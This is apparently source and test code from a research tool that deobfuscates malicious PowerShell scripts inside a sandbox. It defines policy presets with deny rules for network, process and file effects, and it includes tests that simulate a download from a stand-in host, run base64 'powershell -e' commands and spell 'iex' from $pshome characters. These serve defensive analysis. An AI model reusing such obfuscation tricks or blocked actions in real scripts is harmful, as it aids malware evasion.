"""The named sandbox-policy presets and the one resolver every surface
shares.

Three presets cover the three ways this codebase runs untrusted script:

``recovery-strict``
    Piece recovery during deobfuscation — the paper's defaults.  The
    blocklist skips irrelevant/dangerous commands (Section III-B2's
    speed-up), budgets are the engine defaults, and nothing is audited
    beyond the always-on denial counters: recovery constructs thousands
    of evaluators per corpus and must pay nothing extra.

``verify-observing``
    The Table IV behavioural sandbox (:mod:`repro.verify`).  The
    blocklist is *off* — the verifier needs to watch what a script
    actually tries, including the dangerous parts — and the ordered
    behaviour-event log plus denial auditing are on.

``wild-sample-paranoid``
    Genuinely malicious wild corpora (the paper's 39k-sample setting)
    run as a service workload.  Blocklist on, every ``$env:`` probe
    denied, outward side-effects (network, process, filesystem writes,
    timing) denied by kind prefix, the tightest budgets, and every
    denial audited — analysis output is the audit trail itself.

``resolve_policy`` is the single spec-to-policy funnel used by the
pipeline, CLI, batch workers, and the service: it accepts a preset
name, a policy dict, an existing :class:`SandboxPolicy`, or None (the
default preset), so "the same policy spelled differently" converges
before anything keys a cache on it.
"""

from typing import Any, Dict, Optional, Union

from repro.policy.model import PolicyError, SandboxPolicy

DEFAULT_POLICY_NAME = "recovery-strict"

RECOVERY_STRICT = SandboxPolicy(name="recovery-strict")

VERIFY_OBSERVING = SandboxPolicy(
    name="verify-observing",
    enforce_blocklist=False,
    collect_events=True,
    audit_denials=True,
)

WILD_SAMPLE_PARANOID = SandboxPolicy(
    name="wild-sample-paranoid",
    enforce_blocklist=True,
    deny_env_reads=True,
    deny_effects=("net.", "proc.", "fs.write", "fs.delete", "time."),
    step_limit=20_000,
    piece_step_limit=10_000,
    depth_limit=32,
    loop_limit=2_000,
    output_limit=100_000,
    max_events=2_000,
    collect_events=True,
    audit_denials=True,
)

PRESETS: Dict[str, SandboxPolicy] = {
    policy.name: policy
    for policy in (RECOVERY_STRICT, VERIFY_OBSERVING, WILD_SAMPLE_PARANOID)
}

PRESET_NAMES = tuple(sorted(PRESETS))

# The legacy ``enforce_blocklist=False`` constructor path (baselines,
# ad-hoc Evaluator users) maps onto this: recovery semantics, no list.
RECOVERY_OPEN = RECOVERY_STRICT.replace(
    name="recovery-open", enforce_blocklist=False
)


def normalize_policy_name(name: str) -> str:
    """Case/underscore-insensitive preset naming (CLI ergonomics)."""
    return name.strip().lower().replace("_", "-")


def resolve_policy(
    spec: Union[None, str, Dict[str, Any], SandboxPolicy] = None,
) -> SandboxPolicy:
    """The one spec-to-policy funnel.

    - ``None`` → the default preset (``recovery-strict``);
    - a preset name (case/underscore-insensitive) → that preset, the
      *same instance* every time so its cached capability tables are
      shared;
    - a dict → :meth:`SandboxPolicy.from_dict` (unknown keys raise);
    - a :class:`SandboxPolicy` → itself.
    """
    if spec is None:
        return RECOVERY_STRICT
    if isinstance(spec, SandboxPolicy):
        return spec
    if isinstance(spec, str):
        name = normalize_policy_name(spec)
        try:
            return PRESETS[name]
        except KeyError:
            raise PolicyError(
                f"unknown policy {spec!r}; expected one of "
                + ", ".join(PRESET_NAMES)
            ) from None
    if isinstance(spec, dict):
        return SandboxPolicy.from_dict(spec)
    raise PolicyError(
        f"cannot resolve a policy from {type(spec).__name__}"
    )


def default_policy(enforce_blocklist: bool = True) -> SandboxPolicy:
    """The policy the legacy boolean constructor argument means."""
    return RECOVERY_STRICT if enforce_blocklist else RECOVERY_OPEN
