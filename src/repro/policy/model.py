"""The declarative sandbox policy record: :class:`SandboxPolicy`.

Before this existed, the safety surface of the sandboxed evaluator was
scattered across ad-hoc knobs: an ``enforce_blocklist`` boolean threaded
through four constructors, the global :mod:`repro.runtime.blocklist`
frozensets, loose :class:`~repro.runtime.limits.ExecutionBudget`
arguments, and the :class:`~repro.runtime.host.SandboxHost` event cap.
There was no single API to declare *what one evaluation is allowed to
do* — which is exactly what running genuinely malicious wild samples
(the paper's 39k-sample corpus) as a service workload requires.

:class:`SandboxPolicy` unifies three concerns into one frozen, hashable
record, mirroring :class:`~repro.options.PipelineOptions` in shape:

capabilities
    What may run: the built-in blocklist toggle plus per-policy
    allow/deny lists for commands, member calls, static types, ``$env:``
    reads, and recorded side-effects (by ``Effect.kind`` prefix).
budgets
    How much it may cost: step/depth/loop/output limits, the behaviour
    log cap, and an optional wall-clock ceiling.  ``None`` means "the
    engine default", so a policy only pins what it cares about.
audit
    What gets recorded about the decisions themselves: denials and/or
    allowed calls become structured :class:`~repro.policy.audit.AuditEvent`
    entries carrying the active trace id.

Every capability check in the runtime funnels through one choke point —
:meth:`SandboxPolicy.check` — so hardening tiers added later (rlimits,
subprocess isolation) have a single seam to wrap.

``canonical_dict()`` is the cache-key form: it contains only the fields
that differ from their defaults (never the display ``name``), with the
deny/allow tuples case-folded, deduplicated, and sorted at construction
time, so two policies that *mean* the same thing serialize identically
however they were spelled.
"""

import json
from dataclasses import dataclass, fields, replace
from functools import cached_property
from typing import Any, Dict, Optional, Tuple

# Capability kinds a policy decides on; the vocabulary of
# ``check(kind, name)``, audit events, and the stats denial counters.
CAPABILITIES = ("command", "member", "static", "env", "effect")


class PolicyError(ValueError):
    """An invalid policy spec (unknown preset name, bad field, ...)."""


def _norm_names(items) -> Tuple[str, ...]:
    """Case-folded, deduplicated, sorted — the canonical tuple form."""
    return tuple(sorted({str(item).lower().strip() for item in items}))


@dataclass(frozen=True)
class SandboxPolicy:
    """What one sandboxed evaluation may do, cost, and must report.

    Instances are frozen and hashable; derive variants with
    :meth:`replace`.  The name is a display label (preset identity) and
    is deliberately **not** part of :meth:`canonical_dict` — behaviour,
    not labels, keys caches.
    """

    name: str = "custom"

    # -- capabilities --------------------------------------------------------
    enforce_blocklist: bool = True
    allow_commands: Tuple[str, ...] = ()   # blocklist exceptions
    deny_commands: Tuple[str, ...] = ()    # extras beyond the blocklist
    deny_members: Tuple[str, ...] = ()
    deny_statics: Tuple[str, ...] = ()
    deny_env_reads: bool = False           # deny every $env: read ...
    allow_env: Tuple[str, ...] = ()        # ... except these variables
    deny_effects: Tuple[str, ...] = ()     # Effect.kind prefixes ("net.")

    # -- budgets (None = engine default) -------------------------------------
    step_limit: Optional[int] = None
    piece_step_limit: Optional[int] = None
    depth_limit: Optional[int] = None
    loop_limit: Optional[int] = None
    output_limit: Optional[int] = None
    max_events: Optional[int] = None
    wall_time_seconds: Optional[float] = None

    # -- audit ---------------------------------------------------------------
    collect_events: bool = False           # SandboxHost behaviour log
    audit_denials: bool = False            # denied checks -> AuditEvent
    audit_allowed: bool = False            # allowed checks -> AuditEvent

    def __post_init__(self):
        for item in (
            "allow_commands", "deny_commands", "deny_members",
            "deny_statics", "allow_env", "deny_effects",
        ):
            object.__setattr__(self, item, _norm_names(getattr(self, item)))

    # -- derived capability tables (computed once per instance) --------------

    @cached_property
    def denied_commands(self) -> frozenset:
        """Every lower-cased command name this policy refuses."""
        from repro.runtime import blocklist

        denied = set(self.deny_commands)
        if self.enforce_blocklist:
            denied |= blocklist.BLOCKED_COMMANDS
        return frozenset(denied - set(self.allow_commands))

    @cached_property
    def denied_members(self) -> frozenset:
        from repro.runtime import blocklist

        denied = set(self.deny_members)
        if self.enforce_blocklist:
            denied |= blocklist.BLOCKED_METHODS
        return frozenset(denied)

    @cached_property
    def denied_statics(self) -> frozenset:
        from repro.runtime import blocklist

        denied = set(self.deny_statics)
        if self.enforce_blocklist:
            denied |= blocklist.BLOCKED_TYPES
        return frozenset(denied)

    @cached_property
    def checks_env(self) -> bool:
        """True when ``$env:`` reads need a policy decision at all —
        the guard that keeps the default path free of per-read calls."""
        return self.deny_env_reads

    @cached_property
    def checks_effects(self) -> bool:
        return bool(self.deny_effects)

    @cached_property
    def prefilters(self) -> bool:
        """True when the AST blocked-subtree prefilter has work to do."""
        return bool(self.denied_commands or self.denied_members)

    # -- the choke point -----------------------------------------------------

    def is_denied(self, kind: str, name: str) -> Optional[str]:
        """The rule denying capability *kind* for *name*, or None.

        Pure (no audit side effects) — the form the AST prefilter uses.
        *name* is matched case-insensitively; for ``effect`` the match
        is by :class:`~repro.runtime.host.Effect` kind prefix, for
        ``static`` by the blocklist's type-name normalization.
        """
        lowered = name.lower().strip()
        if kind == "command":
            if lowered in self.denied_commands:
                return (
                    "deny_commands" if lowered in self.deny_commands
                    else "blocklist"
                )
            return None
        if kind == "member":
            if lowered in self.denied_members:
                return (
                    "deny_members" if lowered in self.deny_members
                    else "blocklist"
                )
            return None
        if kind == "static":
            cleaned = lowered.lstrip("[").rstrip("]")
            bare = (
                cleaned[len("system."):]
                if cleaned.startswith("system.") else cleaned
            )
            statics = self.denied_statics
            if cleaned in statics or f"system.{bare}" in statics:
                explicit = self.deny_statics
                return (
                    "deny_statics"
                    if cleaned in explicit or f"system.{bare}" in explicit
                    else "blocklist"
                )
            return None
        if kind == "env":
            if self.deny_env_reads and lowered not in self.allow_env:
                return "deny_env_reads"
            return None
        if kind == "effect":
            for prefix in self.deny_effects:
                if lowered.startswith(prefix):
                    return f"deny_effects:{prefix}"
            return None
        raise PolicyError(f"unknown capability kind {kind!r}")

    def check(self, kind: str, name: str, audit=None) -> bool:
        """True when capability *kind* may use *name*.

        The single choke point every runtime check funnels through.
        When *audit* (a :class:`~repro.policy.audit.PolicyAudit`) is
        given, denials are always counted there, and structured audit
        events are emitted according to ``audit_denials`` /
        ``audit_allowed``.
        """
        rule = self.is_denied(kind, name)
        if rule is None:
            if audit is not None and self.audit_allowed:
                audit.record(kind, name, "allow", "default")
            return True
        if audit is not None:
            audit.record(kind, name, "deny", rule)
        return False

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        """The full field dict (``name`` included), JSON-ready."""
        out: Dict[str, Any] = {}
        for item in fields(self):
            value = getattr(self, item.name)
            out[item.name] = list(value) if isinstance(value, tuple) else value
        return out

    def canonical_dict(self) -> Dict[str, Any]:
        """Only the behaviour-bearing fields that differ from their
        defaults — the cache-key form.  ``name`` never appears, and the
        tuple fields were normalized at construction, so equivalent
        spellings produce byte-identical JSON."""
        out: Dict[str, Any] = {}
        for item in fields(self):
            if item.name == "name":
                continue
            value = getattr(self, item.name)
            if value != item.default:
                out[item.name] = (
                    list(value) if isinstance(value, tuple) else value
                )
        return out

    @cached_property
    def cache_token(self) -> str:
        """A stable string keying caches and memo salts: identical for
        any two policies with the same :meth:`canonical_dict`."""
        return json.dumps(
            self.canonical_dict(), sort_keys=True, separators=(",", ":")
        )

    @classmethod
    def from_dict(
        cls, data: Optional[Dict[str, Any]], name: Optional[str] = None
    ) -> "SandboxPolicy":
        """Rebuild from :meth:`to_dict` / :meth:`canonical_dict` output.

        Unknown keys raise :class:`PolicyError` — a policy is a safety
        contract, so a typo must not silently weaken it.
        """
        known = {item.name for item in fields(cls)}
        mapped: Dict[str, Any] = {}
        for key, value in dict(data or {}).items():
            if key not in known:
                raise PolicyError(f"unknown policy field {key!r}")
            mapped[key] = tuple(value) if isinstance(value, list) else value
        if name is not None:
            mapped["name"] = name
        return cls(**mapped)

    def replace(self, **changes: Any) -> "SandboxPolicy":
        """A copy with *changes* applied (instances are frozen)."""
        return replace(self, **changes)
