"""One policy/capability/budget layer for the sandbox.

Everything that executes untrusted script — piece recovery
(:mod:`repro.core.recovery`), the behavioural sandbox
(:mod:`repro.verify`), the baselines — declares what the evaluation may
do with one frozen :class:`SandboxPolicy`: capability allow/deny lists,
per-evaluation budgets, and audit settings.  All capability checks
funnel through :meth:`SandboxPolicy.check`, the single choke point that
feeds the :class:`PolicyAudit` denial counters and structured
:class:`AuditEvent` log (riding the active trace).

Select a policy by preset name everywhere a run is configured: the
``--policy`` CLI flag, ``PipelineOptions.policy``, batch task payloads,
and the service request body.  See ``docs/sandbox.md``.
"""

from repro.policy.audit import (
    AUDIT_ACTIONS,
    DEFAULT_MAX_AUDIT_EVENTS,
    AuditEvent,
    PolicyAudit,
)
from repro.policy.model import CAPABILITIES, PolicyError, SandboxPolicy
from repro.policy.presets import (
    DEFAULT_POLICY_NAME,
    PRESET_NAMES,
    PRESETS,
    RECOVERY_OPEN,
    RECOVERY_STRICT,
    VERIFY_OBSERVING,
    WILD_SAMPLE_PARANOID,
    default_policy,
    normalize_policy_name,
    resolve_policy,
)

__all__ = [
    "AUDIT_ACTIONS",
    "AuditEvent",
    "CAPABILITIES",
    "DEFAULT_MAX_AUDIT_EVENTS",
    "DEFAULT_POLICY_NAME",
    "PolicyAudit",
    "PolicyError",
    "PRESET_NAMES",
    "PRESETS",
    "RECOVERY_OPEN",
    "RECOVERY_STRICT",
    "SandboxPolicy",
    "VERIFY_OBSERVING",
    "WILD_SAMPLE_PARANOID",
    "default_policy",
    "normalize_policy_name",
    "resolve_policy",
]
