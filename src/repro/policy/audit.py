"""Structured audit of sandbox-policy decisions.

Every :meth:`~repro.policy.model.SandboxPolicy.check` call can report
into one :class:`PolicyAudit` per pipeline run.  Two things are
recorded at different costs:

denial counters
    Always counted, per capability kind — these surface as
    ``PipelineStats.policy_denials`` and the
    ``repro_policy_denials_total{capability=...}`` metric, so even the
    audit-silent ``recovery-strict`` preset reports *that* it refused
    something.
audit events
    Full :class:`AuditEvent` records (capability, name, verdict, the
    rule that fired, and the active trace id) — emitted only when the
    policy asks (``audit_denials`` / ``audit_allowed``), bounded by
    ``max_events`` so a hostile sample cannot balloon the log.

The trace id is read from the process-local active
:class:`~repro.obs.trace.SpanRecorder` at event time, so audit events
join whatever pipeline/batch/service trace is in flight without any
extra plumbing through the evaluator.
"""

from dataclasses import dataclass
from typing import Any, Dict, List

from repro.obs.log import get_logger
from repro.obs.trace import active_recorder
from repro.policy.model import CAPABILITIES

# Bound on stored audit events per run (counters keep counting past it).
DEFAULT_MAX_AUDIT_EVENTS = 1_000

_log = get_logger("policy.audit")

AUDIT_ACTIONS = ("deny", "allow")


@dataclass(frozen=True)
class AuditEvent:
    """One policy decision, as the audit log records it."""

    capability: str        # one of repro.policy.CAPABILITIES
    name: str              # what was checked (command, effect kind, ...)
    action: str            # "deny" | "allow"
    rule: str              # which policy rule decided ("deny_effects:net.")
    policy: str            # the deciding policy's name
    trace_id: str = ""     # active trace at decision time ("" outside one)

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "capability": self.capability,
            "name": self.name,
            "action": self.action,
            "rule": self.rule,
            "policy": self.policy,
        }
        if self.trace_id:
            data["trace_id"] = self.trace_id
        return data


def _zero_capabilities() -> Dict[str, int]:
    return {kind: 0 for kind in CAPABILITIES}


class PolicyAudit:
    """Per-run collector of policy decisions and budget consumption.

    One instance rides a whole ``deobfuscate()`` / ``observe_behavior``
    run, shared by every evaluator the run constructs, so the counters
    aggregate across all piece evaluations.  Note the subtree memo
    (:mod:`repro.runtime.memo`) replays previously-denied pieces
    without re-running the sandbox, so within one run a structurally
    repeated denied piece is counted once, not once per occurrence.
    """

    __slots__ = (
        "policy_name",
        "audit_denials",
        "audit_allowed",
        "max_events",
        "events",
        "events_dropped",
        "denials",
        "budget",
    )

    def __init__(self, policy=None, max_events: int = DEFAULT_MAX_AUDIT_EVENTS):
        self.policy_name = policy.name if policy is not None else ""
        self.audit_denials = bool(policy.audit_denials) if policy else False
        self.audit_allowed = bool(policy.audit_allowed) if policy else False
        self.max_events = max_events
        self.events: List[AuditEvent] = []
        self.events_dropped = 0
        self.denials: Dict[str, int] = _zero_capabilities()
        # Summed ExecutionBudget consumption across every evaluation.
        self.budget: Dict[str, int] = {
            "steps": 0, "loop_ticks": 0, "output_chars": 0,
        }

    def record(self, capability: str, name: str, action: str, rule: str):
        """Called by the :meth:`SandboxPolicy.check` choke point."""
        if action == "deny":
            self.denials[capability] = self.denials.get(capability, 0) + 1
            # Every counted denial also hits the structured event log
            # (one emit per counter increment, so the
            # repro_policy_denials_total cross-check test can assert
            # the two never drift).  The logger captures the active
            # trace id itself; the fields carry the decision details.
            _log.warning(
                "policy denied capability",
                capability=capability,
                name=name,
                rule=rule,
                policy=self.policy_name,
            )
            if not self.audit_denials:
                return
        elif not self.audit_allowed:
            return
        if len(self.events) >= self.max_events:
            self.events_dropped += 1
            return
        recorder = active_recorder()
        self.events.append(
            AuditEvent(
                capability=capability,
                name=name,
                action=action,
                rule=rule,
                policy=self.policy_name,
                trace_id=recorder.trace_id if recorder is not None else "",
            )
        )

    def add_budget(self, budget) -> None:
        """Fold one finished :class:`ExecutionBudget` into the run totals."""
        spent = self.budget
        spent["steps"] += budget.steps
        spent["loop_ticks"] += budget.loop_ticks
        spent["output_chars"] += budget.output_chars

    # -- summaries -----------------------------------------------------------

    def denial_total(self) -> int:
        return sum(self.denials.values())

    def denial_counts(self) -> Dict[str, int]:
        """Only the capabilities that actually denied (stats form)."""
        return {k: v for k, v in self.denials.items() if v}

    def budget_spent(self) -> Dict[str, int]:
        """Only the non-zero budget dimensions (stats form)."""
        return {k: v for k, v in self.budget.items() if v}

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "policy": self.policy_name,
            "denials": self.denial_counts(),
            "budget_spent": self.budget_spent(),
            "events": [event.to_dict() for event in self.events],
        }
        if self.events_dropped:
            data["events_dropped"] = self.events_dropped
        return data
