"""SecureString round-trip tests (Table II's SecureString technique)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.runtime.errors import EvaluationError
from repro.runtime.securestring import (
    SecureString,
    decrypt_securestring,
    encrypt_securestring,
    ptr_to_string,
    securestring_to_bstr,
)


class TestKeyedRoundtrip:
    def test_basic(self):
        key = list(range(1, 17))
        encrypted = encrypt_securestring("write-host hello", key)
        assert decrypt_securestring(encrypted, key) == "write-host hello"

    def test_256_bit_key(self):
        key = list(range(32))
        encrypted = encrypt_securestring("payload", key)
        assert decrypt_securestring(encrypted, key) == "payload"

    def test_header_matches_powershell(self):
        encrypted = encrypt_securestring("x", list(range(16)))
        assert encrypted.startswith("76492d1116743f0423413b16050a5345")

    def test_wrong_key_fails(self):
        encrypted = encrypt_securestring("secret", list(range(16)))
        with pytest.raises((EvaluationError, ValueError)):
            decrypt_securestring(encrypted, list(range(1, 17)))

    def test_keyed_needs_key(self):
        encrypted = encrypt_securestring("secret", list(range(16)))
        with pytest.raises(EvaluationError):
            decrypt_securestring(encrypted, None)

    def test_bad_key_length(self):
        with pytest.raises(EvaluationError):
            encrypt_securestring("x", [1, 2, 3])


class TestDpapiRoundtrip:
    def test_basic(self):
        encrypted = encrypt_securestring("no key here")
        assert decrypt_securestring(encrypted) == "no key here"

    def test_header(self):
        encrypted = encrypt_securestring("x")
        assert encrypted.startswith("01000000d08c9ddf")


class TestMarshal:
    def test_bstr_round_trip(self):
        secure = SecureString("inner text")
        pointer = securestring_to_bstr(secure)
        assert ptr_to_string(pointer) == "inner text"

    def test_ptr_rejects_garbage(self):
        with pytest.raises(EvaluationError):
            ptr_to_string("not a pointer")

    def test_bstr_rejects_plain_string(self):
        with pytest.raises(EvaluationError):
            securestring_to_bstr("plain")


class TestGarbageInput:
    def test_not_a_ciphertext(self):
        with pytest.raises(EvaluationError):
            decrypt_securestring("hello world", list(range(16)))


@settings(max_examples=25, deadline=None)
@given(st.text(min_size=0, max_size=100))
def test_keyed_roundtrip_property(text):
    key = list(range(1, 25))
    assert decrypt_securestring(encrypt_securestring(text, key), key) == text
