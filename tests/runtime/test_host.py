"""Tests for the SandboxHost effect recorder."""

from repro.runtime.host import Effect, SandboxHost


class TestEffect:
    def test_host_extraction_from_url(self):
        effect = Effect("net.download_string", "https://evil.test:8443/x")
        assert effect.host == "evil.test"

    def test_host_extraction_from_hostport(self):
        effect = Effect("net.tcp_connect", "10.1.2.3:443")
        assert effect.host == "10.1.2.3"

    def test_non_network_effect_has_no_host(self):
        assert Effect("fs.write", "C:\\x").host == ""

    def test_frozen(self):
        effect = Effect("net.x", "y")
        try:
            effect.kind = "other"
            mutated = True
        except Exception:
            mutated = False
        assert not mutated


class TestSandboxHost:
    def test_record_and_query(self):
        host = SandboxHost()
        host.record("net.download_string", "http://a.b/")
        host.record("fs.write", "C:\\x")
        assert len(host.effects) == 2
        assert len(host.network_effects()) == 1
        assert host.network_hosts() == ["a.b"]

    def test_network_hosts_deduplicated_in_order(self):
        host = SandboxHost()
        host.record("net.download_string", "http://a.b/1")
        host.record("net.download_string", "http://c.d/2")
        host.record("net.download_string", "http://a.b/3")
        assert host.network_hosts() == ["a.b", "c.d"]

    def test_fetch_with_responses(self):
        host = SandboxHost(responses={"http://x/": "BODY"})
        assert host.fetch("http://x/") == "BODY"
        assert host.fetch("http://unknown/") == ""

    def test_default_response(self):
        host = SandboxHost(default_response="fallback")
        assert host.fetch("http://anything/") == "fallback"

    def test_write_host_collects(self):
        host = SandboxHost()
        host.write_host("one")
        host.write_host("two")
        assert host.output == ["one", "two"]


class TestVirtualFilesystem:
    def test_write_read(self):
        host = SandboxHost()
        host.write_file("C:\\a.txt", "data")
        assert host.read_file("c:\\A.TXT") == "data"

    def test_append(self):
        host = SandboxHost()
        host.write_file("x", "a")
        host.write_file("x", "b", append=True)
        assert host.read_file("x") == "ab"

    def test_quoted_paths_normalize(self):
        host = SandboxHost()
        host.write_file('"C:\\q.txt"', "v")
        assert host.has_file("C:\\q.txt")

    def test_delete(self):
        host = SandboxHost()
        host.write_file("gone", "x")
        host.delete_file("gone")
        assert not host.has_file("gone")
        kinds = [e.kind for e in host.effects]
        assert kinds == ["fs.write", "fs.delete"]

    def test_read_missing_returns_none(self):
        assert SandboxHost().read_file("nope") is None
