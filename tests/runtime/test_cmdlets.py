"""Tests for cmdlet implementations and parameter binding."""

import base64

import pytest

from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    UnsupportedOperationError,
)
from repro.runtime.evaluator import Evaluator, evaluate_expression_text as ev
from repro.runtime.values import ScriptBlockValue


class TestParameterBinding:
    def test_named_with_value(self):
        assert ev("select-object -First 2 -InputObject 0; 1,2,3 | select-object -First 2") == [1, 2]

    def test_switch_parameter(self):
        assert ev("3,1,2 | sort-object -Descending") == [3, 2, 1]

    def test_colon_attached_argument(self):
        assert ev("1,2,3 | select-object -First:2") == [1, 2]

    def test_prefix_matching_for_powershell(self):
        blob = base64.b64encode("5+5".encode("utf-16-le")).decode()
        for flag in ("-e", "-en", "-enco", "-encodedCommand"):
            assert ev(f"powershell {flag} {blob}") == 10


class TestForEachWhere:
    def test_foreach_member_name(self):
        assert ev("'ab','cde' | foreach-object Length") == [2, 3]

    def test_where_filters(self):
        assert ev("'a','bb','ccc' | where-object { $_.Length -ge 2 }") == [
            "bb", "ccc",
        ]

    def test_foreach_scriptblock_sees_dollar_underscore(self):
        assert ev("'x' | foreach-object { $_ + '!' }") == "x!"


class TestVariableCmdlets:
    def test_get_variable_valueonly(self):
        assert ev("$v = 7; get-variable v -ValueOnly") == 7

    def test_get_variable_record(self):
        record = ev("$v = 7; get-variable v")
        assert record == {"Name": "v", "Value": 7}

    def test_set_variable(self):
        assert ev("set-variable -Name n -Value 3; $n") == 3


class TestOutputCmdlets:
    def test_out_string_joins(self):
        assert ev("'a','b' | out-string") == "a\r\nb"

    def test_write_host_goes_to_host(self):
        evaluator = Evaluator()
        evaluator.run_script_text("write-host one two")
        assert evaluator.host.output == ["one two"]

    def test_out_file_records_effect(self):
        evaluator = Evaluator(enforce_blocklist=False)
        evaluator.run_script_text("'data' | out-file C:\\t\\x.txt")
        assert evaluator.host.effects[0].kind == "fs.write"


class TestSecureStringCmdlets:
    def test_plaintext_roundtrip(self):
        script = (
            "$s = ConvertTo-SecureString 'pw' -AsPlainText -Force\n"
            "[Runtime.InteropServices.Marshal]::PtrToStringAuto("
            "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($s))"
        )
        assert ev(script) == "pw"

    def test_keyed_roundtrip_through_cmdlets(self):
        script = (
            "$k = (1..16)\n"
            "$enc = ConvertTo-SecureString 'secret' -AsPlainText -Force |"
            " ConvertFrom-SecureString -Key $k\n"
            "$back = ConvertTo-SecureString $enc -Key $k\n"
            "[Runtime.InteropServices.Marshal]::PtrToStringAuto("
            "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($back))"
        )
        assert ev(script) == "secret"


class TestPathCmdlets:
    def test_join_path(self):
        assert ev("join-path 'C:\\a' 'b.txt'") == "C:\\a\\b.txt"

    def test_split_path_leaf(self):
        assert ev("split-path 'C:\\a\\b.ps1' -Leaf") == "b.ps1"

    def test_test_path_false(self):
        assert ev("test-path 'C:\\anything'") is False


class TestChildShell:
    def test_inline_command(self):
        assert ev("powershell -c '1+2'") == 3

    def test_pipeline_input(self):
        assert ev("'4+4' | powershell") == 8

    def test_path_prefixed_exe(self):
        blob = base64.b64encode("9".encode("utf-16-le")).decode()
        assert ev(
            f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            f" -e {blob}"
        ) == 9


class TestStartSleep:
    def test_records_without_sleeping(self):
        evaluator = Evaluator(enforce_blocklist=False)
        evaluator.run_script_text("start-sleep -Seconds 30")
        assert evaluator.host.effects[0].kind == "time.sleep"
        assert evaluator.host.effects[0].target == "30.0"

    def test_blocked_under_blocklist(self):
        with pytest.raises(BlockedCommandError):
            ev("start-sleep 1")


class TestErrorContinuation:
    def test_continue_on_error(self):
        evaluator = Evaluator(
            enforce_blocklist=False, continue_on_error=True
        )
        outputs = evaluator.run_script_text(
            "Invoke-Nonexistent\n'survived'"
        )
        assert outputs == ["survived"]

    def test_strict_mode_raises(self):
        evaluator = Evaluator(enforce_blocklist=False)
        with pytest.raises(EvaluationError):
            evaluator.run_script_text("Invoke-Nonexistent\n'survived'")
