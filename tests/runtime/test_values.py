"""Unit tests for the PowerShell value model."""

import pytest

from repro.runtime.errors import EvaluationError
from repro.runtime.values import (
    PSChar,
    as_list,
    char_array,
    is_stringifiable,
    to_bool,
    to_int,
    to_number,
    to_string,
    type_name_of,
    unwrap_single,
)


class TestPSChar:
    def test_from_int(self):
        assert PSChar(97).char == "a"

    def test_from_string(self):
        assert PSChar("x").code == 120

    def test_rejects_long_string(self):
        with pytest.raises(EvaluationError):
            PSChar("ab")

    def test_rejects_bool(self):
        with pytest.raises(EvaluationError):
            PSChar(True)

    def test_equality_with_str(self):
        assert PSChar("a") == "a"
        assert PSChar("a") == PSChar(97)


class TestToString:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (None, ""),
            (True, "True"),
            (False, "False"),
            (42, "42"),
            (3.0, "3"),
            (3.5, "3.5"),
            ("abc", "abc"),
            ([1, 2, 3], "1 2 3"),
            (PSChar("x"), "x"),
        ],
    )
    def test_conversions(self, value, expected):
        assert to_string(value) == expected

    def test_nested_array(self):
        assert to_string([1, [2, 3]]) == "1 2 3"


class TestToNumber:
    @pytest.mark.parametrize(
        "value,expected",
        [
            ("42", 42),
            ("0x4B", 75),
            ("-7", -7),
            (" 5 ", 5),
            ("3.5", 3.5),
            (True, 1),
            (False, 0),
            (None, 0),
            (PSChar("a"), 97),
        ],
    )
    def test_conversions(self, value, expected):
        assert to_number(value) == expected

    def test_bad_string_raises(self):
        with pytest.raises(EvaluationError):
            to_number("xyz")

    def test_empty_string_raises(self):
        with pytest.raises(EvaluationError):
            to_number("")


class TestToInt:
    def test_banker_rounding(self):
        assert to_int(2.5) == 2
        assert to_int(3.5) == 4
        assert to_int(2.4) == 2
        assert to_int(2.6) == 3


class TestToBool:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (None, False),
            (0, False),
            (1, True),
            ("", False),
            ("x", True),
            ("false", True),  # non-empty string is truthy in PS
            ([], False),
            ([0], False),
            ([1], True),
            ([0, 0], True),  # multi-element arrays are truthy
        ],
    )
    def test_conversions(self, value, expected):
        assert to_bool(value) is expected


class TestStringifiable:
    def test_scalars(self):
        assert is_stringifiable("x")
        assert is_stringifiable(5)
        assert is_stringifiable(PSChar("x"))

    def test_null_is_not(self):
        assert not is_stringifiable(None)

    def test_array_of_strings(self):
        assert is_stringifiable(["a", "b"])

    def test_array_with_object_is_not(self):
        assert not is_stringifiable(["a", object()])

    def test_empty_array_is_not(self):
        assert not is_stringifiable([])


class TestHelpers:
    def test_as_list_scalar(self):
        assert as_list(5) == [5]

    def test_as_list_none(self):
        assert as_list(None) == []

    def test_as_list_passthrough(self):
        assert as_list([1, 2]) == [1, 2]

    def test_unwrap_single(self):
        assert unwrap_single([5]) == 5
        assert unwrap_single([]) is None
        assert unwrap_single([1, 2]) == [1, 2]

    def test_char_array(self):
        chars = char_array("ab")
        assert [c.char for c in chars] == ["a", "b"]

    def test_type_names(self):
        assert type_name_of(5) == "System.Int32"
        assert type_name_of("x") == "System.String"
        assert type_name_of([1]) == "System.Object[]"
