"""Tests for environment/automatic variables (obfuscator char mines)."""

from repro.runtime.environment import (
    is_automatic,
    lookup_automatic,
    lookup_environment,
    split_scope_prefix,
)


class TestEnvironment:
    def test_comspec(self):
        assert lookup_environment("ComSpec").endswith("cmd.exe")

    def test_case_insensitive(self):
        assert lookup_environment("COMSPEC") == lookup_environment("comspec")

    def test_unknown_is_none(self):
        assert lookup_environment("NO_SUCH_VAR_12345") is None


class TestAutomaticVariables:
    def test_true_false_null(self):
        assert lookup_automatic("true") is True
        assert lookup_automatic("FALSE") is False
        assert lookup_automatic("null") is None

    def test_pshome_char_mine(self):
        pshome = lookup_automatic("pshome")
        # The classic recipe must spell 'iex' (paper Section III-B4).
        assert pshome[4] + pshome[30] + "x" == "iex"

    def test_shellid(self):
        assert lookup_automatic("shellid") == "Microsoft.PowerShell"

    def test_is_automatic(self):
        assert is_automatic("PSHome")
        assert not is_automatic("myvariable")


class TestScopePrefixes:
    def test_env_prefix(self):
        assert split_scope_prefix("env:Path") == ("env", "Path")

    def test_global_prefix(self):
        assert split_scope_prefix("GLOBAL:x") == ("global", "x")

    def test_plain_name(self):
        assert split_scope_prefix("plain") == (None, "plain")
