"""Tests for sandbox object types (streams, web client, builders)."""

